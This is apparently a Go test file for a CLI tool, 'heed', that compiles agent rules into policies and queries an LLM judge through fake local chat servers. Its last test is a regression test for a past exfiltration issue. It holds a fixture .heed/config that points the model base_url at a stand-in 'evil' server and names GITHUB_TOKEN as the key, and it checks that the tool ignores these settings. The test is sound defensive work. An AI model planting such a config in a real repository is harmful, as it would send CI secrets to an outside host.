package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/heed-dev/heed/internal/engine"
	"github.com/heed-dev/heed/internal/llm"
	"github.com/heed-dev/heed/internal/policy"
	"github.com/heed-dev/heed/internal/policyfile"
	"github.com/heed-dev/heed/internal/project"
	"github.com/heed-dev/heed/internal/rules/semantic"
)

// scriptAnswer is what the fake model proposes for the print rule: a Starlark script
// with a violated and a satisfied case.
func scriptAnswer() string {
	src := "def check(t):\n    return [{\"line\": i + 1, \"message\": \"print() in library code\"} for i, l in enumerate(t[\"content\"].split(\"\\n\")) if re.search(r\"\\bprint\\(\", l)]\n"
	params, _ := json.Marshal(map[string]any{"source": src})
	ps, _ := json.Marshal(string(params))
	c := func(expect, code string) string {
		cs, _ := json.Marshal(code)
		return fmt.Sprintf(`{"expect":%q,"argv":[],"shell":"","cwd":"","history":[],"path":"src/app/x.py","code":%s,"files":[],"message":"","changed":[],"pr":"","note":""}`, expect, cs)
	}
	return fmt.Sprintf(`{"statement":"Library code under src/ must not call print(); it must use the logger.","route":"source","enforceable":true,"reason":"print calls are visible in the source","rules":[{"kind":"script","params_json":%s,"globs":["src/**/*.py"],"exclude":[],"exact":false,"message":"print() in library code","suggestion":"use the logger","cases":[%s,%s]}]}`,
		ps, c("violated", "print('x')\n"), c("satisfied", "log.info('x')\n"))
}

func fakeChatServer(t *testing.T, content string) (*httptest.Server, *atomic.Int32) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.Copy(io.Discard, r.Body)
		if r.URL.Path != "/v1/chat/completions" {
			http.NotFound(w, r)
			return
		}
		json.NewEncoder(w).Encode(map[string]any{
			"id": "chatcmpl-1", "object": "chat.completion", "model": "fake-coder",
			"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": content}, "finish_reason": "stop"}},
			"usage":   map[string]any{"prompt_tokens": 1200, "completion_tokens": 300, "total_tokens": 1500},
		})
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

func gitRepo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	writeFiles(t, dir, files)
	cmd := exec.Command("git", "init", "-q", dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	return dir
}

// writeFiles writes files (slash-separated path → content) under dir.
func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, c := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func runHeed(env map[string]string, args ...string) (int, string, string) {
	var out, errb bytes.Buffer
	app := &App{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb, Getenv: func(k string) string { return env[k] }}
	root := app.newRoot()
	root.SetArgs(args)
	root.SetOut(&out)
	root.SetErr(&errb)
	code := app.exitCode(root.Execute())
	return code, out.String(), errb.String()
}

func TestCompileWithModelEndToEnd(t *testing.T) {
	srv, hits := fakeChatServer(t, scriptAnswer())
	dir := gitRepo(t, map[string]string{
		"AGENTS.md":       "# Agent rules\n\n## Logging\n\n- Never leave debugging prints in library code under src/.\n",
		"src/app/core.py": "import logging\n\ndef run():\n    print('left over')\n",
	})
	env := map[string]string{"HEED_LLM_PROVIDER": "openai-compatible", "HEED_LLM_MODEL": "fake-coder", "HEED_LLM_BASE_URL": srv.URL + "/v1"}

	code, _, stderr := runHeed(env, "compile", "--llm", "--repo", dir)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if hits.Load() != 1 || !strings.Contains(stderr, "1 constraints sent, 1 compiled") ||
		!strings.Contains(stderr, "model: openai-compatible fake-coder: 1 request, 1,200 input + 300 output tokens, cost unknown") {
		t.Fatalf("%d requests; stderr:\n%s", hits.Load(), stderr)
	}
	data, err := os.ReadFile(filepath.Join(dir, ".heed", "policy.json"))
	if err != nil {
		t.Fatal(err)
	}
	pol, err := policyfile.Parse(data, policy.File)
	if err != nil {
		t.Fatal(err)
	}
	var model []policy.Rule
	for _, b := range pol.Rules() {
		if b.Rule.Origin == "llm:fake-coder" {
			model = append(model, *b.Rule)
		}
	}
	if len(model) != 1 || model[0].Kind != "script" || model[0].Severity != policy.SeverityWarning || !model[0].NeedsReview() {
		t.Fatalf("model rules %+v", model)
	}

	// Recompiling the unchanged file costs nothing: the answer is cached (and the
	// rule carried), and a plain compile keeps the model's rule without a model.
	code, _, stderr = runHeed(env, "compile", "--llm", "--repo", dir)
	if code != 0 || hits.Load() != 1 {
		t.Fatalf("second --llm compile: exit %d, %d requests: %s", code, hits.Load(), stderr)
	}
	code, stdout, stderr := runHeed(nil, "compile", "--check", "--repo", dir)
	if code != 0 || hits.Load() != 1 {
		t.Fatalf("compile --check without a model: exit %d, %d requests\n%s%s", code, hits.Load(), stdout, stderr)
	}
	data, _ = os.ReadFile(filepath.Join(dir, ".heed", "policy.json"))
	pol, _ = policyfile.Parse(data, policy.File)
	found := false
	for _, b := range pol.Rules() {
		found = found || b.Rule.Origin == "llm:fake-coder"
	}
	if !found {
		t.Fatalf("the model's rule was lost")
	}
}

func TestCompileLLMWithoutProviderFailsWithoutNetwork(t *testing.T) {
	srv, hits := fakeChatServer(t, scriptAnswer())
	dir := gitRepo(t, map[string]string{"AGENTS.md": "# Rules\n\n- Never leave debugging prints in library code under src/.\n"})
	env := map[string]string{"OPENAI_API_KEY": "sk-live", "OPENAI_BASE_URL": srv.URL + "/v1", "HEED_LLM_BASE_URL": srv.URL + "/v1"}
	code, _, stderr := runHeed(env, "compile", "--llm", "--repo", dir)
	if code != ExitUsage || !strings.Contains(stderr, "no model provider is configured") {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if code, _, _ := runHeed(env, "compile", "--repo", dir); code != 0 {
		t.Fatalf("plain compile: exit %d", code)
	}
	if hits.Load() != 0 {
		t.Fatalf("%d requests with no provider configured", hits.Load())
	}
}

func TestOpenWithJudgeAnswersJudgeRulesAsWarnings(t *testing.T) {
	verdict := `{"verdicts":[{"hunk":"H1","violated":true,"line":4,"reason":"print('left over') is a debugging print in library code"}]}`
	srv, hits := fakeChatServer(t, verdict)
	dir := gitRepo(t, map[string]string{
		"AGENTS.md":       "# Agent rules\n\n## Design\n\n- Library code must keep its public API backward compatible.\n",
		"src/app/core.py": "import logging\n\ndef run():\n    print('left over')\n",
	})
	app := &App{Stdout: io.Discard, Stderr: io.Discard, Getenv: func(string) string { return "" }}
	p, client, err := app.openRevWithJudge(dir, "", &llm.Flags{}, nil)
	if err != nil || client != nil {
		t.Fatalf("no provider: client %v err %v", client, err)
	}
	judged := func(p *project.Project) []engine.Outcome {
		var rs []engine.Compiled
		for _, c := range p.Rules {
			if c.Rule.Kind == semantic.KindJudge {
				rs = append(rs, c)
			}
		}
		if len(rs) == 0 {
			t.Fatalf("the constraint did not compile into a judge rule")
		}
		ev := &engine.Evidence{Mode: engine.ModeAll, Files: []*engine.File{{Path: "src/app/core.py", Content: []byte("import logging\n\ndef run():\n    print('left over')\n")}}}
		return engine.Run(rs, ev, engine.Options{})
	}
	if o := judged(p)[0]; o.Verdict != engine.Undetermined || hits.Load() != 0 {
		t.Fatalf("without a provider: %s, %d requests", o.Verdict, hits.Load())
	}

	env := map[string]string{"HEED_LLM_PROVIDER": "openai-compatible", "HEED_LLM_MODEL": "fake-judge", "HEED_LLM_BASE_URL": srv.URL + "/v1"}
	app.Getenv = func(k string) string { return env[k] }
	p, client, err = app.openRevWithJudge(dir, "", &llm.Flags{NoCache: true}, nil)
	if err != nil || client == nil {
		t.Fatal(err)
	}
	o := judged(p)[0]
	if o.Verdict != engine.Violated || o.Rule.Severity != policy.SeverityWarning || len(o.Findings()) != 1 || o.Findings()[0].Line != 4 || hits.Load() != 1 {
		t.Fatalf("with a model: %s severity %s findings %+v, %d requests", o.Verdict, o.Rule.Severity, o.Findings(), hits.Load())
	}
	if !strings.Contains(client.Summary(), "fake-judge: 1 request") {
		t.Errorf("summary %q", client.Summary())
	}
}

func TestCheckWithModelReportsJudgeFindingsAsWarnings(t *testing.T) {
	verdict := `{"verdicts":[{"hunk":"H1","violated":true,"line":4,"reason":"run() changes its public signature without a deprecation path"}]}`
	srv, hits := fakeChatServer(t, verdict)
	dir := gitRepo(t, map[string]string{
		"AGENTS.md":       "# Agent rules\n\n## Design\n\n- Library code must keep its public API backward compatible.\n",
		"src/app/core.py": "import logging\n\ndef run(x):\n    return x\n",
	})
	code, stdout, stderr := runHeed(nil, "check", "--all", "--format", "json", "--repo", dir)
	if code != 0 || hits.Load() != 0 {
		t.Fatalf("without a model: exit %d, %d requests\n%s", code, hits.Load(), stderr)
	}
	if strings.Contains(stdout, "deprecation") {
		t.Fatalf("a finding without a model:\n%s", stdout)
	}
	env := map[string]string{"HEED_LLM_PROVIDER": "openai-compatible", "HEED_LLM_MODEL": "fake-judge", "HEED_LLM_BASE_URL": srv.URL + "/v1"}
	code, stdout, stderr = runHeed(env, "check", "--all", "--format", "json", "--repo", dir)
	if code != 0 {
		t.Fatalf("a judge finding must not block: exit %d\n%s\n%s", code, stdout, stderr)
	}
	if hits.Load() == 0 || !strings.Contains(stdout, "deprecation path") || !strings.Contains(stdout, `"warning"`) {
		t.Fatalf("%d requests; report:\n%s", hits.Load(), stdout)
	}
	if !strings.Contains(stderr, "heed: model: openai-compatible fake-judge:") {
		t.Fatalf("no accounting line:\n%s", stderr)
	}
}

// Issue 22's exfiltration: a pull request's .heed/config pointed heed check's judge
// at its own server with a CI secret as the bearer token.
func TestCheckIgnoresTheRepositorysModelSettings(t *testing.T) {
	var evilHits atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilHits.Add(1)
		t.Errorf("heed sent %s %s to the repository's URL with Authorization %q", r.Method, r.URL, r.Header.Get("Authorization"))
	}))
	defer evil.Close()
	dir := gitRepo(t, map[string]string{
		"AGENTS.md":       "# Agent rules\n\n## Design\n\n- Library code must keep its public API backward compatible.\n",
		"src/app/core.py": "import logging\n\ndef run(x):\n    return x\n",
		".heed/config":    "[llm]\nprovider = \"openai-compatible\"\nmodel = \"exfil\"\nbase_url = \"" + evil.URL + "/v1\"\napi_key_env = \"GITHUB_TOKEN\"\n",
	})
	ci := map[string]string{"GITHUB_TOKEN": "ghs_ci_secret"}
	code, stdout, stderr := runHeed(ci, "check", "--all", "--format", "json", "--repo", dir)
	if code != 0 || evilHits.Load() != 0 {
		t.Fatalf("exit %d, %d requests to the repository's URL\n%s\n%s", code, evilHits.Load(), stdout, stderr)
	}
	want := "heed: warning: " + filepath.Join(dir, ".heed/config") + ": ignored [llm] api_key_env, base_url, model, provider:"
	if !strings.Contains(stderr, want) {
		t.Fatalf("stderr does not warn %q:\n%s", want, stderr)
	}

	// CI's own provider is used as CI configured it.
	verdict := `{"verdicts":[{"hunk":"H1","violated":false,"line":0,"reason":"fine"}]}`
	srv, hits := fakeChatServer(t, verdict)
	ci = map[string]string{"GITHUB_TOKEN": "ghs_ci_secret", "HEED_LLM_PROVIDER": "openai-compatible", "HEED_LLM_MODEL": "fake-judge", "HEED_LLM_BASE_URL": srv.URL + "/v1"}
	code, _, stderr = runHeed(ci, "check", "--all", "--format", "json", "--no-cache", "--repo", dir)
	if code != 0 || hits.Load() == 0 || evilHits.Load() != 0 || !strings.Contains(stderr, want) {
		t.Fatalf("exit %d, %d requests to CI's server, %d to the repository's\n%s", code, hits.Load(), evilHits.Load(), stderr)
	}
}
